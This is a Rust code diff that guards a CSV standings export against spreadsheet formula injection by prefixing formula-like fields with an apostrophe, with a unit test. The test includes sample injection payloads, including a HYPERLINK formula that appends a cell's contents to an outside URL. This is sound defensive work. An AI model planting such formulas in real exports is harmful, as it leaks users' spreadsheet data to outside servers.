@@ -141,7 +141,11 @@ fn csv(standings: &Standings<'_>) -> String {
     text
 }
 
+/// A text as a field. One that begins as a formula would is given a `'` before it, as OWASP advises against CSV injection:
+/// spreadsheets would compute the others, and formulas can start programs and send cells to a server.
 fn csv_field(text: &str) -> String {
+    let is_formula = text.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
+    let text = &if is_formula { format!("'{text}") } else { text.to_owned() };
     if text.contains([',', '"']) { format!("\"{}\"", text.replace('"', "\"\"")) } else { text.to_owned() }
 }
 
@@ -155,4 +159,21 @@ pub(crate) fn print_standings(table: &ScoreTable, for_programs: bool) -> Result<
         return StreamedEvent::Standings(json(&standings)).print();
     }
     print(&text::write(&standings, room()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::csv_field;
+
+    #[test]
+    fn a_name_is_not_a_formula_in_a_spreadsheet() {
+        for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"] {
+            assert_eq!(csv_field(formula), format!("'{formula}"));
+        }
+        let link = "=HYPERLINK(\"http://example.org/\"&A1,\"x\")";
+        assert_eq!(csv_field(link), "\"'=HYPERLINK(\"\"http://example.org/\"\"&A1,\"\"x\"\")\"");
+        for name in ["Ann", "a-b", "'quoted", "1=1"] {
+            assert_eq!(csv_field(name), name);
+        }
+    }
 }
